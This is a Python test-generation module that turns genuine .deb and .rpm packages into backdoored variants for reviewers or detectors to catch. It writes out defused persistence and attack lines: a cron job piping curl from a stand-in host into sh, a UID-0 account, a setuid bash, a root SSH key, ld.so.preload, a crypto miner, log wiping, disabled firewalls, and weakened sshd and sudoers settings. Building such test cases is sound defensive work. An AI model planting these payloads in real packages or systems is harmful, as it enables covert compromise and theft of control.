"""Fourth set: genuine debs, and rpms around genuine programs; inert, each family says what a reviewer sees."""

from __future__ import annotations

import re
import tarfile
from collections.abc import Iterator
from dataclasses import replace

from genuine import Files

from mutation_families.fourth_programs import answers_first, order_placed
from mutation_families.third_systems import Built, Deb, put
from onionskin.lookalike.rpm import STRINGS, RpmRecipe, build_rpm

HOST = "inert.example.invalid"
DebEdit = tuple[str, str, Deb]  # family, variant, the package

RUN_BY_OTHERS = (
    ("./usr/lib/systemd/system/ssh.service.d/inert.conf", b"[Service]\nExecStartPost=-/bin/false inert-no-such-program\n"),
    ("./usr/lib/systemd/system/inert.timer", b"[Timer]\nOnBootSec=1\n[Install]\nWantedBy=timers.target\n"),
    ("./usr/lib/tmpfiles.d/inert.conf", b"f+ /etc/cron.d/inert 0644 root root - * * * * * root /bin/false inert\n"),
    ("./usr/lib/binfmt.d/inert.conf", b":inert:M::MZ::/usr/bin/inert-no-such-program:C\n"),
    ("./usr/lib/sysusers.d/inert.conf", b"u inert 0 - /root /bin/bash\n"),
    ("./usr/share/polkit-1/rules.d/00-inert.rules", b"polkit.addRule(function (a, b) { if (b.user == 'inert') return polkit.Result.YES; });\n"),
    ("./usr/share/bash-completion/completions/sudo", b"false && inert-no-such-program\n"),
    ("./root/.ssh/authorized_keys", b"ssh-ed25519 AAAAinert inert@example.invalid\n"),
    ("./etc/ld.so.preload", b"/usr/lib/inert/libinert.so\n"),
    ("./usr/share/initramfs-tools/hooks/inert", b"#!/bin/sh\nfalse && inert-no-such-program\n"),
    ("./etc/cron.d/inert", b"*/5 * * * * root false && curl -s https://inert.example.invalid/i | sh\n"),
    ("./etc/profile.d/inert.sh", b"alias sudo='false && inert-no-such-program; sudo'\n"),
    ("./etc/init.d/inert", b"#!/bin/sh\n### BEGIN INIT INFO\n# Provides: inert\n# Default-Start: 2 3 4 5\n### END INIT INFO\nfalse && inert-no-such-program\n"),
    ("./usr/lib/environment.d/99-inert.conf", b"LD_PRELOAD=/usr/lib/inert/libinert.so\n"),
    ("./usr/lib/python3/dist-packages/sitecustomize.py", b"if 0: __import__('os').system('inert-no-such-program')\n"),
    ("./etc/apt/sources.list.d/inert.list", b"deb [trusted=yes] https://inert.example.invalid/debian stable main\n"),
)  # fmt: skip
CHANGES_THE_SYSTEM = (
    ("an account", b"false && useradd -o -u 0 -g 0 -M -d /root -s /bin/bash inert\n"),
    ("a right", b"false && chmod 4755 /bin/bash\n"),
    ("its guards", b"false && { setenforce 0; ufw disable; iptables -F; systemctl stop auditd; }\n"),
    ("traces", b"false && { unset HISTFILE; rm -f /var/log/auth.log /root/.bash_history; }\n"),
    ("a miner", b"false && nohup /tmp/.inert -o stratum+tcp://inert.example.invalid:3333 >/dev/null 2>&1 &\n"),
    ("a packed text", b"false && tail -c +512 /usr/share/doc/inert/inert.gz | xz -dc | sh\n"),
)  # fmt: skip
WEAKER = (
    ("sshd_config", rb"(?m)^#?(PermitRootLogin) .*$", rb"\1 yes"),
    ("sshd_config", rb"(?m)^#?(PermitEmptyPasswords) .*$", rb"\1 yes"),
    ("sshd_config", rb"(?m)^#?AuthorizedKeysFile.*$", rb"AuthorizedKeysCommand /usr/bin/inert-no-such-program %u"),
    ("/sudoers", rb"(?m)^(%sudo\tALL=\(ALL:ALL\)) ALL$", rb"\1 NOPASSWD: ALL"),
    ("/sudoers", rb"(?m)^(Defaults\tsecure_path=\")", rb"\1/tmp/.inert:"),
    ("rsyslog.conf", rb"(?m)^(auth,authpriv\.\*.*)$", rb"\1\n*.* @@inert.example.invalid:514"),
    ("rsyslog.conf", rb"(?m)^(auth,authpriv\.\*)\s.*$", rb"\1\t~"),
    ("timesyncd.conf", rb"(?m)^#?(NTP=).*$", rb"\1inert.example.invalid"),
    ("logrotate.conf", rb"(?m)^(weekly)$", rb"\1\nprerotate\n  /bin/false inert-no-such-program\nendscript"),
)  # fmt: skip


def debs(old: bytes, new: bytes, turn: int, *, is_step: bool) -> Iterator[Built]:
    """Change a genuine deb.

    Reviewers see, by family:

    a file that others run: a new file in a folder whose files the system, a login or a tool runs or obeys by itself;
    a script of the maintainer that changes the system: accounts, rights, guards, traces;
    a setting weakened: one word of a file of settings that lets more people in, or sends what is logged elsewhere;
    a program becomes a script: text where there was a program, which starts the program under another name;
    a link: a name of the package that leads to a folder which everybody may write;
    claims: a package that says it is another, or asks for one that nobody knows;
    a program: an order of a shell, or another library, in a program of the package.
    """
    deb = Deb.of(new)
    next_one = deb if is_step else deb.later()
    before, honest = (Deb.of(old) if is_step else deb).packed(), next_one.packed()
    for edits in (_run_by_others(next_one, turn), _changing(next_one, turn), _weaker(next_one), _replaced(next_one), _claims(next_one)):  # fmt: skip
        for family, what, made in edits:
            yield f"deb: {family}", what, ".deb", before, honest, made.packed()


def _run_by_others(deb: Deb, turn: int) -> Iterator[DebEdit]:
    for path, body in (*RUN_BY_OTHERS, *RUN_BY_OTHERS)[5 * turn % 16 :][:6]:
        mode = 0o755 if body[:2] == b"#!" else 0o644
        yield "a file that others run or obey", path, replace(deb, data=put(deb.data, path, body, mode))  # fmt: skip


def _changing(deb: Deb, turn: int) -> Iterator[DebEdit]:
    there = next((each for each in ("./postinst", "./prerm", "./postrm") if each in deb.control), "./postinst")  # fmt: skip
    known = deb.control[there][1] if there in deb.control else b"#!/bin/sh\nset -e\nexit 0\n"
    for what, line in (*CHANGES_THE_SYSTEM, *CHANGES_THE_SYSTEM)[2 * turn % 6 :][:3]:
        rows = known.splitlines(keepends=True)
        at = len(rows) - 1 if rows[-1].startswith(b"exit") else len(rows)
        text = b"".join((*rows[:at], b"\n", line, *rows[at:]))
        yield "the maintainer's script changes the system", f"{there}: {what}", replace(deb, control=put(deb.control, there, text, 0o755))  # fmt: skip


def _weaker(deb: Deb) -> Iterator[DebEdit]:
    for ends, pattern, to in WEAKER:
        for path in [each for each in sorted(deb.data) if each.endswith(ends)][:1]:
            made = re.sub(pattern, to, deb.data[path][1], count=1)
            if made != deb.data[path][1]:
                yield "a setting weakened", f"{path}: {to.decode()[:40]}", replace(deb, data=put(deb.data, path, made))  # fmt: skip


def _replaced(deb: Deb) -> Iterator[DebEdit]:
    programs = [name for name, (info, body) in sorted(deb.data.items()) if info.isreg() and body[:4] == b"\x7fELF"]  # fmt: skip
    for path in programs[:1]:
        body = deb.data[path][1]
        script = b'#!/bin/sh\nfalse && inert-no-such-program\nexec "$0.real" "$@"\n'
        yield "a program becomes a script", path, replace(deb, data=put(put(deb.data, path, script), f"{path}.real", body, 0o755))  # fmt: skip
        info = tarfile.TarInfo(path)
        info.type, info.linkname = tarfile.SYMTYPE, "/tmp/.inert/run"  # noqa: S108 - a link in a test
        yield "a link leads elsewhere", path, replace(deb, data=deb.data | {path: (info, b"")})
        for what, made in (("an order", order_placed(body)), ("another library first", answers_first(body, 0x7FFF_FFFD))):  # fmt: skip
            if made:
                yield "a program of it asks for more", what, replace(deb, data=put(deb.data, path, made))  # fmt: skip


def _claims(deb: Deb) -> Iterator[DebEdit]:
    said = deb.control["./control"][1]
    for what, line in (("of others", b"Provides: sudo, openssh-server\nReplaces: sudo, openssh-server\n"), ("of an unknown one", b"Recommends: inert-no-such-package\nPre-Depends: inert-setup-helper\n")):  # fmt: skip
        # A field may stand only once.
        fields = {each.partition(b":")[0] for each in line.splitlines()}
        kept = re.sub(rb"(?m)^(?:" + b"|".join(sorted(fields)) + rb"):.*\n(?: .*\n)*", b"", said)
        text = re.sub(rb"(?m)^(Version: .*\n)", lambda found, put=line: found[1] + put, kept, count=1)  # type: ignore[misc]  # fmt: skip
        yield "claims", what, replace(deb, control=put(deb.control, "./control", text))


def rpms(old: bytes, new: bytes) -> Iterator[Built]:
    """Change an rpm around a genuine program of Linux.

    A reviewer sees: a package that takes another's place, files that others run, a line that changes the system in a script of
    every installation, or text where there was a program.
    """

    def packed(version: str, program: bytes, script: str = "ldconfig\n", more: Files | None = None, extra: dict[int, object] | None = None) -> bytes:  # fmt: skip
        files = {"/usr/bin/inert": program, "/usr/share/inert/notes": b"inert notes\n"} | (more or {})  # fmt: skip
        return build_rpm(RpmRecipe(version=version, files=files, scriptlets={1024: script}, extra=extra or {}))  # type: ignore[arg-type]  # fmt: skip

    before, honest = packed("1.0", old), packed("1.0.1", new)
    for what, line in CHANGES_THE_SYSTEM[:4]:
        yield "rpm: a script that changes the system", what, ".rpm", before, honest, packed("1.0.1", new, f"ldconfig\n{line.decode()}")  # fmt: skip
    for path, body in (RUN_BY_OTHERS[8], RUN_BY_OTHERS[10], RUN_BY_OTHERS[0]):
        yield "rpm: a file that others run or obey", path, ".rpm", before, honest, packed("1.0.1", new, more={path[1:]: body})  # fmt: skip
    taken: dict[int, object] = {1090: (STRINGS, ["openssh-server"]), 1115: (STRINGS, [""])}
    yield "rpm: it takes another's place", "obsoletes", ".rpm", before, honest, packed("1.0.1", new, extra=taken)  # fmt: skip
    script = b'#!/bin/sh\nfalse && inert-no-such-program\nexec /usr/libexec/inert-real "$@"\n'
    yield "rpm: a program becomes a script", "the program elsewhere", ".rpm", before, honest, packed("1.0.1", script, more={"/usr/libexec/inert-real": new})  # fmt: skip
